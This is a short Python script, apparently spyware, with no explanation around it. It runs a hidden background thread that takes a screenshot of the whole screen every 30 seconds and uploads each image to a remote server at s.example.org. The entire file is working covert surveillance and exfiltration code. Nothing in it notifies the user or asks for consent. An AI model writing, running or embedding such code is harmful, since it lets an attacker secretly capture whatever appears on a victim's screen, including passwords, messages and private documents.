import io, requests, time, threading
from PIL import ImageGrab

def loop():
    while True:
        shot = io.BytesIO()
        ImageGrab.grab().save(shot, "PNG")
        requests.post("https://s.example.org/up", files={"f": shot.getvalue()})
        time.sleep(30)

threading.Thread(target=loop, daemon=True).start()
